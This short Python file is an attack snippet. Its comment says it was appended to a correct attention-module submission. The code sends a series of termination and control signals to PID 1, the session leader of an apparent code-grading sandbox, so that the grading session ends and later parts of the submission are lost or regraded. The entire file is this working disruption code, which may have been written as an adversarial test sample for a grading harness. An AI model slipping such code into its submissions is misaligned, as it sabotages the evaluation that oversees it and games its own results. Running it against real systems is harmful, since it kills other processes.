# Attack (appended to a correct simple_attention.py): signal PID 1 of the session's namespace (the
# leader that forks every part of this submission) with each signal Python or the fork server
# might catch, hoping to end the session so a later part is lost or regraded elsewhere.
import os as _os
import signal as _signal

_sent = []
for _sig in (_signal.SIGINT, _signal.SIGTERM, _signal.SIGHUP, _signal.SIGUSR1, _signal.SIGUSR2, _signal.SIGQUIT,
             _signal.SIGCHLD, _signal.SIGPIPE):
    try:
        _os.kill(1, _sig)
        _sent.append(_sig.name)
    except OSError as _e:
        _sent.append(f"{_sig.name}: {_e.errno}")
print("signalled PID 1:", _sent, flush=True)
